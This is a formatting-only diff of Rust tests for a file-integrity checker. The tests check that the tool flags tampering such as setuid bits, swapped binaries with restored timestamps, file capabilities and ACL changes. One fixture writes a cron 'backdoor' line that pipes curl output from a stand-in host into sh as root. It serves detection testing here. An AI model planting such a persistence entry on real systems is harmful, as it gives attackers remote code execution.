@@ -28,7 +28,10 @@ fn content_change_is_reported_with_hash_size_and_times() {
         let t = Tree::new();
         let b = t.record(&policy(algo));
         std::thread::sleep(Duration::from_millis(20));
-        t.write("etc/ssh/sshd_config", "PermitRootLogin yes\nPasswordAuthentication no\n");
+        t.write(
+            "etc/ssh/sshd_config",
+            "PermitRootLogin yes\nPasswordAuthentication no\n",
+        );
         let r = t.check(&b);
         assert_eq!(r.verdict, Verdict::Changes);
         let c = only_change(&r, "/etc/ssh/sshd_config", ChangeKind::Changed);
@@ -50,7 +53,11 @@ fn mode_change_is_reported() {
     let c = only_change(&r, "/etc/passwd", ChangeKind::Changed);
     let m = c.attrs.iter().find(|a| a.attr.name() == "mode").unwrap();
     assert_eq!((m.old.as_str(), m.new.as_str()), ("0644", "0666"));
-    assert!(c.notes.iter().any(|n| n.contains("world-writable")), "{:?}", c.notes);
+    assert!(
+        c.notes.iter().any(|n| n.contains("world-writable")),
+        "{:?}",
+        c.notes
+    );
 }
 
 #[test]
@@ -63,7 +70,10 @@ fn owner_and_group_changes_are_reported() {
     let r = t.check(&b);
     let c = only_change(&r, "/etc/passwd", ChangeKind::Changed);
     let names = attr_names(c);
-    assert!(names.contains(&"owner") && names.contains(&"group"), "{names:?}");
+    assert!(
+        names.contains(&"owner") && names.contains(&"group"),
+        "{names:?}"
+    );
     let o = c.attrs.iter().find(|a| a.attr.name() == "owner").unwrap();
     assert_eq!(o.new, (me + 1000).to_string());
 }
@@ -82,7 +92,11 @@ fn a_new_setuid_bit_is_reported_and_flagged() {
     let c = only_change(&r, "/usr/bin/ls", ChangeKind::Changed);
     let m = c.attrs.iter().find(|a| a.attr.name() == "mode").unwrap();
     assert_eq!((m.old.as_str(), m.new.as_str()), ("0755", "4755"));
-    assert!(c.notes.iter().any(|n| n == "setuid bit added"), "{:?}", c.notes);
+    assert!(
+        c.notes.iter().any(|n| n == "setuid bit added"),
+        "{:?}",
+        c.notes
+    );
 }
 
 #[test]
@@ -104,9 +118,21 @@ fn a_binary_replaced_in_place_with_the_same_size_and_mtime_is_caught() {
     let r = t.check(&b);
     let c = only_change(&r, "/usr/bin/sudo", ChangeKind::Changed);
     let names = attr_names(c);
-    assert!(names.contains(&"hash") && names.contains(&"ctime"), "{names:?}");
-    assert!(!names.contains(&"size") && !names.contains(&"mtime"), "{names:?}");
-    assert!(c.notes.iter().any(|n| n.contains("time stamp was likely restored")), "{:?}", c.notes);
+    assert!(
+        names.contains(&"hash") && names.contains(&"ctime"),
+        "{names:?}"
+    );
+    assert!(
+        !names.contains(&"size") && !names.contains(&"mtime"),
+        "{names:?}"
+    );
+    assert!(
+        c.notes
+            .iter()
+            .any(|n| n.contains("time stamp was likely restored")),
+        "{:?}",
+        c.notes
+    );
 }
 
 #[test]
@@ -128,17 +154,27 @@ fn a_binary_replaced_by_rename_with_the_same_size_and_mtime_is_caught() {
     let r = t.check(&b);
     let c = only_change(&r, "/usr/bin/sudo", ChangeKind::Changed);
     let names = attr_names(c);
-    assert!(names.contains(&"hash") && names.contains(&"inode"), "{names:?}");
+    assert!(
+        names.contains(&"hash") && names.contains(&"inode"),
+        "{names:?}"
+    );
 }
 
 #[test]
 fn a_new_file_in_a_watched_directory_is_added() {
     let t = Tree::new();
     let b = t.record(&policy(HashAlgo::Blake3));
-    t.write("etc/cron.d/backdoor", "* * * * * root curl -s http://x | sh\n");
+    t.write(
+        "etc/cron.d/backdoor",
+        "* * * * * root curl -s http://x | sh\n",
+    );
     let r = t.check(&b);
     let c = only_change(&r, "/etc/cron.d/backdoor", ChangeKind::Added);
-    assert!(c.summary.as_deref().unwrap().starts_with("file 0644"), "{:?}", c.summary);
+    assert!(
+        c.summary.as_deref().unwrap().starts_with("file 0644"),
+        "{:?}",
+        c.summary
+    );
 }
 
 #[test]
@@ -149,7 +185,11 @@ fn a_new_setuid_file_is_flagged() {
     t.chmod("usr/bin/rootshell", 0o4755);
     let r = t.check(&b);
     let c = only_change(&r, "/usr/bin/rootshell", ChangeKind::Added);
-    assert!(c.notes.iter().any(|n| n == "new setuid file"), "{:?}", c.notes);
+    assert!(
+        c.notes.iter().any(|n| n == "new setuid file"),
+        "{:?}",
+        c.notes
+    );
 }
 
 #[test]
@@ -171,7 +211,10 @@ fn a_changed_symlink_target_is_reported() {
     let r = t.check(&b);
     let c = change(&r, "/etc/alternatives-ls");
     let tg = c.attrs.iter().find(|a| a.attr.name() == "target").unwrap();
-    assert_eq!((tg.old.as_str(), tg.new.as_str()), ("../usr/bin/ls", "../usr/bin/sudo"));
+    assert_eq!(
+        (tg.old.as_str(), tg.new.as_str()),
+        ("../usr/bin/ls", "../usr/bin/sudo")
+    );
 }
 
 #[test]
@@ -192,28 +235,52 @@ fn extended_attributes_and_acls_are_compared() {
     let b = t.record(&policy(HashAlgo::Blake3));
     let p = t.path("usr/bin/ls");
     // A file capability is how a binary gains privileges without setuid.
-    let cap = [0x01u8, 0, 0, 0x02, 0x00, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
-    match rustix::fs::setxattr(&p, "security.capability", &cap, rustix::fs::XattrFlags::empty()) {
+    let cap = [
+        0x01u8, 0, 0, 0x02, 0x00, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
+    ];
+    match rustix::fs::setxattr(
+        &p,
+        "security.capability",
+        &cap,
+        rustix::fs::XattrFlags::empty(),
+    ) {
         Ok(()) => {}
-        Err(e) => panic!("setxattr security.capability (needs root and xattr support in the temp dir): {e}"),
+        Err(e) => panic!(
+            "setxattr security.capability (needs root and xattr support in the temp dir): {e}"
+        ),
     }
     let r = t.check(&b);
     let c = only_change(&r, "/usr/bin/ls", ChangeKind::Changed);
     assert!(attr_names(c).contains(&"xattrs"), "{:?}", c.attrs);
-    assert!(c.notes.iter().any(|n| n == "file capabilities added"), "{:?}", c.notes);
+    assert!(
+        c.notes.iter().any(|n| n == "file capabilities added"),
+        "{:?}",
+        c.notes
+    );
 
     // A POSIX ACL entry is reported as `acl`, not as `xattrs`.
     let b = t.record(&policy(HashAlgo::Blake3));
     // version 2; USER_OBJ rw-, USER uid 1234 rwx, GROUP_OBJ r--, MASK rwx, OTHER r--
     let mut acl = vec![2u8, 0, 0, 0];
-    for (tag, perm, id) in [(1u16, 6u16, u32::MAX), (2, 7, 1234), (4, 4, u32::MAX), (0x10, 7, u32::MAX), (0x20, 4, u32::MAX)] {
+    for (tag, perm, id) in [
+        (1u16, 6u16, u32::MAX),
+        (2, 7, 1234),
+        (4, 4, u32::MAX),
+        (0x10, 7, u32::MAX),
+        (0x20, 4, u32::MAX),
+    ] {
         acl.extend_from_slice(&tag.to_le_bytes());
         acl.extend_from_slice(&perm.to_le_bytes());
         acl.extend_from_slice(&id.to_le_bytes());
     }
     let p = t.path("etc/passwd");
-    rustix::fs::setxattr(&p, "system.posix_acl_access", &acl, rustix::fs::XattrFlags::empty())
-        .expect("set a POSIX ACL on the temp dir's file system");
+    rustix::fs::setxattr(
+        &p,
+        "system.posix_acl_access",
+        &acl,
+        rustix::fs::XattrFlags::empty(),
+    )
+    .expect("set a POSIX ACL on the temp dir's file system");
     let r = t.check(&b);
     let c = change(&r, "/etc/passwd");
     assert!(attr_names(c).contains(&"acl"), "{:?}", c.attrs);
@@ -231,4 +298,3 @@ fn directories_do_not_report_their_own_times_when_files_come_and_go() {
     only_change(&r, "/etc/new.conf", ChangeKind::Added);
     let _ = SystemTime::now();
 }
-
